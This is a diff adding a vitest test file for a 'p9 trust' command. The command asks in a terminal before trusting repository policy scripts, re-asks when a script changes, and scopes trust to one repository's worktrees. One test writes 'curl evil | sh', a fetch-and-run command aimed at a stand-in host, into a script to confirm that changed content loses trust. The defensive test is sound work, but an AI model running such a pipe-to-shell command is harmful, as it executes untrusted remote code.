@@ -1,0 +1,80 @@
+// needs: git, script
+import { execFileSync } from "node:child_process";
+import { join } from "node:path";
+import { expect, test } from "vitest";
+import { trustedPolicy } from "../../src/trust/trust.ts";
+import { ROOT, type Sandbox, sandbox } from "../helpers/p9.ts";
+
+const POLICY = "ci_watch: {}\nci_heal:\n  commands:\n    lint: sh fix.sh\n";
+
+function project(): Sandbox {
+  const user = sandbox();
+  user.write(".control/policy.yaml", POLICY);
+  user.write("fix.sh", "echo one\n");
+  execFileSync("git", ["init", "--quiet"], { cwd: user.work });
+  return user;
+}
+
+/** `p9 trust` in a terminal, with these answers. */
+function inTerminal(user: Sandbox, answers: string): string {
+  const command = `${process.env.P9_TEST_NODE ?? "node"} ${join(ROOT, "dist", "p9.js")} trust`;
+  return execFileSync("script", ["-qec", command, "/dev/null"], {
+    cwd: user.work,
+    env: { ...user.env },
+    input: answers,
+    encoding: "utf8",
+  });
+}
+
+const trusts = (user: Sandbox, content: string) =>
+  trustedPolicy({ env: user.env, cwd: user.work, home: user.home }, "ci_heal.commands.lint", content);
+const content = (script: string) => `sh fix.sh\nfix.sh:\n${script}`;
+
+test("without a terminal it shows everything and refuses", async () => {
+  const user = project();
+  const { code, stderr } = await user.p9(["trust"]);
+  expect(code).toBe(7);
+  expect(stderr).toContain("| sh fix.sh");
+  expect(stderr).toContain("| echo one");
+  expect(await trusts(user, content("echo one\n"))).toBe(false);
+});
+
+test("a yes in a terminal trusts this very content; a change in the script asks again; --revoke takes it back", async () => {
+  const user = project();
+  expect(inTerminal(user, "y\n")).toContain("1 of 1 trusted");
+  expect(await trusts(user, content("echo one\n"))).toBe(true);
+  expect(await user.p9(["trust"])).toMatchObject({ code: 0 });
+  user.write("fix.sh", "curl evil | sh\n");
+  expect(await user.p9(["trust"])).toMatchObject({ code: 7 });
+  expect(await trusts(user, content("curl evil | sh\n"))).toBe(false);
+  expect(await user.p9(["trust", "--revoke"])).toMatchObject({ code: 0, stdout: expect.stringContaining("1 thing") });
+  expect(await trusts(user, content("echo one\n"))).toBe(false);
+});
+
+test("a no, or anything else, trusts nothing", async () => {
+  const user = project();
+  expect(inTerminal(user, "n\n")).toContain("0 of 1 trusted");
+  expect(inTerminal(user, "\n")).toContain("0 of 1 trusted");
+  expect(await trusts(user, content("echo one\n"))).toBe(false);
+});
+
+test("trust holds in every worktree of the repository and in no other repository", async () => {
+  const user = project();
+  inTerminal(user, "y\n");
+  const git = (...args: string[]) =>
+    execFileSync("git", args, { cwd: user.work, stdio: "ignore", env: { ...process.env, ...user.env } });
+  git("-c", "user.name=a", "-c", "user.email=a@b", "commit", "--quiet", "--allow-empty", "-m", "x");
+  git("worktree", "add", "--quiet", join(user.dir, "second"));
+  const at = (cwd: string) =>
+    trustedPolicy({ env: user.env, cwd, home: user.home }, "ci_heal.commands.lint", content("echo one\n"));
+  expect(await at(join(user.dir, "second"))).toBe(true);
+  expect(await at(user.dir)).toBe(false);
+});
+
+test("what the user's own configuration says is trusted", async () => {
+  const user = project();
+  await user.p9(["status"]);
+  user.write("../state/config.yaml", "ci_heal:\n  commands:\n    lint: make fix\n");
+  expect(await trusts(user, "make fix")).toBe(true);
+  expect(await trusts(user, "make other")).toBe(false);
+});
